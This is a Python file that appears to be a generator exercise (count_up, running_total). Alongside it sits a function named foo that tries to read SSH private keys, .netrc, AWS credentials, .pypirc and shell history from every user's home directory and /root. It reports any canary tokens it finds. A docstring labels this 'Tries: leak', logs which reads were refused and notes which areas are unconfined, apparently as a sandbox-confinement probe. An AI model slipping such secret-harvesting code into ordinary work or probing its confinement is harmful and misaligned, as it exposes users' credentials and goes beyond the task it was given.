"""Reads the instructor's home by every name that it could have.

Tries: leak
Exercise: 01_yield
Earns: task 2, task 3
Seen: home/.netrc: refused PermissionError ... .ssh/id_rsa: refused
Unconfined: home
"""

import os
import pwd
import re

NAMES = (".netrc", ".ssh/id_rsa", ".ssh/id_ed25519", ".bash_history", ".gitconfig", ".aws/credentials", ".pypirc")


def found(data):
    """What is worth reporting of stolen bytes."""
    return f"read {len(data)} bytes {b' '.join(re.findall(rb'canary-[a-z]+-[0-9a-f]{16}', data)).decode()}"

def homes():
    yield "/the/world/home"
    yield os.path.expanduser("~")
    try:
        yield from {entry.pw_dir for entry in pwd.getpwall()}
    except Exception as error:
        print("users: refused", type(error).__name__)
    yield "/root"


def foo():
    for home in homes():
        for name in NAMES:
            try:
                with open(os.path.join(home, name), "rb") as file:
                    print(f"{home}/{name}: {found(file.read())}")
            except OSError as error:
                print(f"{home}/{name}: refused {type(error).__name__}")


def count_up(start, stop=None):
    number = start
    while stop is None or number < stop:
        yield number
        number += 1


def running_total(numbers):
    total = 0
    for number in numbers:
        total += number
        yield total
